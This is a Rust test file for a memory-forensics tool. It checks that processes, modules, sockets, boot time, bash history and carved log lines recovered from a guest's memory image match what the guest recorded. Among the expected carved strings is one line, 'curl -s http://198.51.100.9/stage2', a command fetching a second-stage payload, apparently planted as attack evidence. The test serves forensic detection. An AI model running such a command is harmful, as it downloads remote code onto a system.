//! A real guest's memory: what is read out of it must equal what the guest said of itself.
//!
//! `tests/vm/memory_fixture.sh FOLDER` makes the guest; `EXHIBIT_MEMORY_FIXTURE=FOLDER` has these tests read it.

use std::collections::{BTreeMap, BTreeSet};
use std::fs::File;
use std::io::{Read, Seek, Write};
use std::os::unix::fs::FileExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use timeline::ReadError;
use timeline::bytes::{ByteSource, StreamRange};
use timeline::event::{Event, flags};
use timeline::file_scan::Account;
use timeline::memory::{Artefact, MemoryImage};
use timeline::parser::Context;
use timeline::record::{self, Place};

struct OnDisk(File, u64);

impl ByteSource for OnDisk {
    fn len(&self) -> u64 {
        self.1
    }
    fn read_at(&self, offset: u64, buf: &mut [u8]) -> Result<usize, ReadError> {
        let want = buf.len().min(usize::try_from(self.1.saturating_sub(offset)).unwrap());
        self.0.read_exact_at(&mut buf[..want], offset).unwrap();
        Ok(want)
    }
    fn stream_ranges(&self, offset: u64, length: u64) -> Vec<StreamRange> {
        let all = offset..offset + length;
        std::iter::once(all).collect()
    }
}

fn on_disk(path: &Path) -> Arc<dyn ByteSource> {
    let file = File::open(path).unwrap_or_else(|error| panic!("{path:?}: {error}"));
    let length = file.metadata().unwrap().len();
    Arc::new(OnDisk(file, length))
}

/// The folder that `memory_fixture.sh` made, or nothing, said aloud.
fn fixture() -> Option<PathBuf> {
    #[allow(clippy::disallowed_methods, reason = "a test's own setting")]
    let folder = std::env::var_os("EXHIBIT_MEMORY_FIXTURE").map(PathBuf::from);
    if folder.is_none() {
        println!("skipped: EXHIBIT_MEMORY_FIXTURE names no folder made by tests/vm/memory_fixture.sh");
    }
    folder
}

fn open(folder: &Path, pack: &[&str]) -> MemoryImage {
    let mut image = MemoryImage::open("memory", on_disk(&folder.join("memory.lime")), &[]).unwrap();
    take_symbols(&mut image, folder, pack);
    image
}

fn take_symbols(image: &mut MemoryImage, folder: &Path, pack: &[&str]) {
    let files: Vec<_> =
        pack.iter().map(|path| (*path, on_disk(&folder.join("symbols").join(path)))).collect();
    let paths: Vec<String> = pack.iter().map(|path| format!("/{path}")).collect();
    let files =
        files.iter().zip(&paths).map(|((_, source), path)| ("symbols/tar:", path.as_str(), source.clone()));
    image.take_symbols(files);
}

const WHOLE_PACK: [&str; 3] = ["proc/kallsyms", "sys/kernel/btf/vmlinux", "proc/kcore.vmcoreinfo"];

fn read(image: &MemoryImage, artefact: Artefact) -> (Vec<Event>, Account) {
    let mut rows = Vec::new();
    let account = image.read(artefact, &Context::default(), &mut |event| rows.push(event));
    (rows, account)
}

fn fact(folder: &Path, name: &str) -> String {
    std::fs::read_to_string(folder.join("facts").join(name)).unwrap()
}

fn number(event: &Event, key: &str) -> Option<i64> {
    event.attrs.get(key)?.as_i64()
}

/// pid → parent, name, uid, start in ticks; as `/proc/PID/stat` and `status` gave them.
fn processes_said(folder: &Path) -> BTreeMap<i64, (i64, String, i64, i64)> {
    let mut said = BTreeMap::new();
    for line in fact(folder, "processes").lines() {
        let (uid, stat) = line.split_once('|').unwrap();
        let (pid, rest) = stat.split_once(" (").unwrap();
        let (name, rest) = rest.rsplit_once(") ").unwrap();
        let fields: Vec<&str> = rest.split(' ').collect();
        let (parent, start) = (fields[1].parse().unwrap(), fields[19].parse().unwrap());
        said.insert(pid.parse().unwrap(), (parent, name.to_owned(), uid.parse().unwrap(), start));
    }
    said
}

fn check_processes(folder: &Path, rows: &[Event]) {
    let said = processes_said(folder);
    let boot: i64 = fact(folder, "btime").trim().rsplit(' ').next().unwrap().parse().unwrap();
    let mut found = BTreeMap::new();
    for row in rows {
        let boottime = number(row, "boottime_ns").unwrap();
        let name = row.process.clone().unwrap();
        let what = (number(row, "ppid").unwrap(), name, number(row, "uid").unwrap(), boottime / 10_000_000);
        assert!(found.insert(row.pid.unwrap(), what).is_none(), "a pid twice");
        let time = row.time.unwrap();
        let start = time.seconds() - boottime / 1_000_000_000;
        assert!((boot..=boot + 1).contains(&start), "{} {start} {boot}", row.message);
    }
    for (pid, (parent, name, uid, start)) in &said {
        let Some(found) = found.get(pid) else { panic!("{pid} {name} is not found") };
        // A task holds 15 letters of its name, and workers show what they work on behind theirs. The first process
        // had yet to become what it is for good.
        let is_cut = (found.1.len() == 15 || found.1.starts_with("kworker/")) && name.starts_with(&found.1);
        let same_name = found.1 == *name || is_cut || *pid == 1;
        assert!(
            same_name && (found.0, found.2, found.3) == (*parent, *uid, *start),
            "{pid}: {found:?} but {name} {parent} {uid} {start}"
        );
    }
    let others: Vec<_> = found.iter().filter(|(pid, _)| !said.contains_key(pid)).collect();
    assert!(others.iter().all(|(_, what)| what.0 == 2), "only kernel threads may come later: {others:?}");
}

#[test]
fn processes_are_those_that_the_guest_had() {
    let Some(folder) = fixture() else { return };
    let image = open(&folder, &WHOLE_PACK);
    let (rows, account) = read(&image, Artefact::Processes);
    assert_eq!((account.stopped, account.failed, image.issues()), (None, 0, vec![]));
    check_processes(&folder, &rows);
    let row = |name: &str| rows.iter().find(|row| row.process.as_deref() == Some(name)).unwrap();
    assert_eq!(
        row("odd) name").command.as_deref(),
        Some("/bin/actor odd) name 65534 sleep --with two words")
    );
    assert_eq!(row("link-client").path.as_deref(), Some("/bin/actor"));
    assert_eq!(row("actor-child").attrs.get("state").unwrap(), "sleeping");
    assert_eq!(row("kthreadd").attrs.get("kernel_thread").unwrap(), true);
}

#[test]
fn every_row_comes_again_from_its_bytes_alone() {
    let Some(folder) = fixture() else { return };
    let image = open(&folder, &WHOLE_PACK);
    let structures = [Artefact::Host, Artefact::Processes, Artefact::Modules, Artefact::Sockets];
    let all = structures.into_iter().chain([Artefact::Commands, Artefact::Lines]);
    for artefact in all {
        let (rows, _) = read(&image, artefact);
        assert!(!rows.is_empty());
        for same in rows.chunk_by(|a, b| (a.span, &a.pieces) == (b.span, &b.pieces)) {
            let row = &same[0];
            let place = Place { locator: image.locator().into(), span: row.span, pieces: row.pieces.clone() };
            let record = record::read(image.source(), None, &place).unwrap();
            let context = Context::default();
            let again = image.rows_of_record(artefact, &record.bytes, row.span, &record.pieces, &context);
            assert!(again == same, "{artefact:?} {}", row.message);
        }
    }
}

#[test]
fn modules_are_those_that_the_guest_had() {
    let Some(folder) = fixture() else { return };
    let (rows, account) = read(&open(&folder, &WHOLE_PACK), Artefact::Modules);
    assert_eq!((account.stopped, account.failed), (None, 0));
    let found: BTreeSet<(String, i64, String)> = rows
        .iter()
        .map(|row| {
            let text = |key| row.attrs.get(key).unwrap().as_str().unwrap().to_owned();
            (text("module"), row.size.unwrap(), text("address"))
        })
        .collect();
    let said: BTreeSet<(String, i64, String)> = fact(&folder, "modules")
        .lines()
        .map(|line| {
            let fields: Vec<&str> = line.split(' ').collect();
            (fields[0].to_owned(), fields[1].parse().unwrap(), fields[5].to_owned())
        })
        .collect();
    assert_eq!(found, said);
    assert!(found.len() >= 2);
}

/// `0100007F:1F90` as `/proc/net/tcp` writes it: words of four bytes in the machine's order.
fn end_said(text: &str) -> (String, i32) {
    let (address, port) = text.split_once(':').unwrap();
    let bytes: Vec<u8> = (0..address.len() / 8)
        .flat_map(|word| u32::from_str_radix(&address[word * 8..word * 8 + 8], 16).unwrap().to_le_bytes())
        .collect();
    let address = match <[u8; 4]>::try_from(bytes.as_slice()) {
        Ok(four) => std::net::Ipv4Addr::from(four).to_string(),
        Err(_) => std::net::Ipv6Addr::from(<[u8; 16]>::try_from(bytes.as_slice()).unwrap()).to_string(),
    };
    (address, i32::from_str_radix(port, 16).unwrap())
}

#[test]
fn sockets_are_those_that_the_guest_had_and_belong_to_the_same_processes() {
    let Some(folder) = fixture() else { return };
    let (rows, account) = read(&open(&folder, &WHOLE_PACK), Artefact::Sockets);
    assert_eq!((account.stopped, account.failed), (None, 0));
    let holders: BTreeMap<i64, i64> = fact(&folder, "holders")
        .lines()
        .map(|line| {
            let fields: Vec<&str> = line.split(' ').collect();
            let inode = fields[2].trim_start_matches("socket:[").trim_end_matches(']');
            (inode.parse().unwrap(), fields[0].parse().unwrap())
        })
        .collect();
    let mut said = BTreeSet::new();
    for (file, protocol) in [("tcp", "TCP"), ("tcp6", "TCP"), ("udp", "UDP")] {
        for line in fact(&folder, file).lines().skip(1) {
            let fields: Vec<&str> = line.split_whitespace().collect();
            let inode: i64 = fields[9].parse().unwrap();
            let Some(pid) = holders.get(&inode) else { continue };
            let (local, remote) = (end_said(fields[1]), end_said(fields[2]));
            let state = match (protocol, fields[3]) {
                ("TCP", "0A") => "listening",
                ("TCP", "01") => "established",
                ("UDP", "07") => "unconnected",
                other => panic!("{other:?}"),
            };
            said.insert((
                protocol.to_owned(),
                local,
                (remote.1 != 0).then_some(remote),
                state.to_owned(),
                inode,
                *pid,
            ));
        }
    }
    let found: BTreeSet<_> = rows
        .iter()
        .map(|row| {
            let text = |key| row.attrs.get(key).unwrap().as_str().unwrap().to_owned();
            let local = (row.src_ip.clone().unwrap(), row.src_port.unwrap());
            let remote = row.dst_ip.clone().zip(row.dst_port);
            (text("protocol"), local, remote, text("state"), row.inode.unwrap(), row.pid.unwrap())
        })
        .collect();
    assert_eq!(found, said);
    assert!(found.len() >= 6);
}

#[test]
fn boot_time_and_clock_are_those_of_the_guest() {
    let Some(folder) = fixture() else { return };
    let image = open(&folder, &WHOLE_PACK);
    let (rows, _) = read(&image, Artefact::Host);
    let boot: i64 = fact(&folder, "btime").trim().rsplit(' ').next().unwrap().parse().unwrap();
    let now: i64 = fact(&folder, "now").trim().parse().unwrap();
    assert_eq!(rows[0].time.unwrap().seconds(), boot);
    let clock = rows[1].time.unwrap().seconds();
    assert!((now..now + 60).contains(&clock), "{clock} {now}");
    assert_eq!(image.host().as_deref(), Some("memory-guest"));
}

#[test]
fn log_lines_and_commands_of_the_guest_are_carved() {
    let Some(folder) = fixture() else { return };
    let (rows, account) = read(&open(&folder, &[]), Artefact::Lines);
    assert_eq!(account.stopped, None);
    assert!(rows.iter().all(|row| row.flags & flags::RECOVERED != 0 && row.time.is_some()));
    for text in [
        "Accepted publickey for alice",
        "failed for mallory",
        "curl -s http://198.51.100.9/stage2",
        "USER_LOGIN",
    ] {
        let is_it = |row: &&Event| row.message.contains(text) || row.attrs.to_json().contains(text);
        assert!(rows.iter().find(is_it).is_some(), "{text}");
    }
}

#[test]
fn the_same_memory_packed_by_avml_gives_the_same_processes_and_sockets() {
    let Some(folder) = fixture() else { return };
    let mut lime = std::io::BufReader::new(File::open(folder.join("memory.lime")).unwrap());
    let mut packed = tempfile::tempfile().unwrap();
    let mut header = [0; 32];
    while lime.read_exact(&mut header).is_ok() {
        let number = |at: usize| u64::from_le_bytes(header[at..at + 8].try_into().unwrap());
        let length = number(16) - number(8) + 1;
        header[..8].copy_from_slice(&[0x41, 0x56, 0x4d, 0x4c, 2, 0, 0, 0]);
        packed.write_all(&header).unwrap();
        let from = packed.stream_position().unwrap();
        let mut frames = snap::write::FrameEncoder::new(packed);
        std::io::copy(&mut lime.by_ref().take(length), &mut frames).unwrap();
        packed = frames.into_inner().unwrap();
        let length = packed.stream_position().unwrap() - from;
        packed.write_all(&length.to_le_bytes()).unwrap();
    }
    let length = packed.stream_position().unwrap();
    let mut avml = MemoryImage::open("memory", Arc::new(OnDisk(packed, length)), &[]).unwrap();
    take_symbols(&mut avml, &folder, &WHOLE_PACK);
    assert_eq!((avml.locator(), avml.issues()), ("memory/avml", vec![]));
    let lime = open(&folder, &WHOLE_PACK);
    // Offsets in the payload count no headers.
    let texts = |image: &MemoryImage, artefact| -> Vec<(String, String)> {
        let rows = read(image, artefact).0;
        rows.iter().map(|row| (row.message.clone(), row.attrs.to_json())).collect()
    };
    for artefact in [Artefact::Host, Artefact::Processes, Artefact::Modules, Artefact::Sockets] {
        assert_eq!(texts(&avml, artefact), texts(&lime, artefact));
    }
}

#[test]
fn a_shell_that_runs_remembers_what_was_typed_into_it() {
    let Some(folder) = fixture() else { return };
    let (rows, account) = read(&open(&folder, &WHOLE_PACK), Artefact::Commands);
    assert_eq!((account.stopped, account.failed), (None, 0));
    let found: Vec<(String, String)> = rows
        .iter()
        .map(|row| (row.time.unwrap().seconds().to_string(), row.command.clone().unwrap()))
        .collect();
    // `    1  1795168810 cd /tmp`
    let said = fact(&folder, "history");
    for line in said.lines() {
        let (_, rest) = line.trim_start().split_once("  ").unwrap();
        let (seconds, command) = rest.split_once(' ').unwrap();
        let same = |(time, text): &&(String, String)| (time.as_str(), text.as_str()) == (seconds, command);
        assert_eq!(found.iter().filter(same).count(), 1, "{line}: {found:?}");
    }
    assert!(said.lines().count() >= 3);
    assert!(rows.iter().all(|row| row.process.as_deref() == Some("bash")));
}

#[test]
fn without_a_pack_the_kernel_is_found_in_its_own_memory() {
    let Some(folder) = fixture() else { return };
    let rows_with = |pack: &[&str]| {
        let image = open(&folder, pack);
        let rows = [Artefact::Host, Artefact::Processes, Artefact::Modules, Artefact::Sockets]
            .map(|artefact| read(&image, artefact).0);
        (rows, image.issues())
    };
    let (whole, issues) = rows_with(&WHOLE_PACK);
    assert_eq!(issues, [""; 0]);
    let note = std::fs::read_to_string(folder.join("symbols/proc/kcore.vmcoreinfo")).unwrap();
    for pack in [&[][..], &WHOLE_PACK[..1], &WHOLE_PACK[..2], &WHOLE_PACK[1..2]] {
        let (rows, issues) = rows_with(pack);
        // Kernels before 6.0 do not say where their symbols lie.
        if !note.contains("SYMBOL(kallsyms_names)") && !pack.contains(&"proc/kallsyms") {
            assert!(rows.iter().all(Vec::is_empty), "{pack:?}");
            assert!(issues.iter().any(|issue| issue.contains("symbols are not known")), "{issues:?}");
            continue;
        }
        assert!(rows == whole, "{pack:?}: {issues:?}");
        assert!(!issues.is_empty(), "{pack:?}");
    }
}
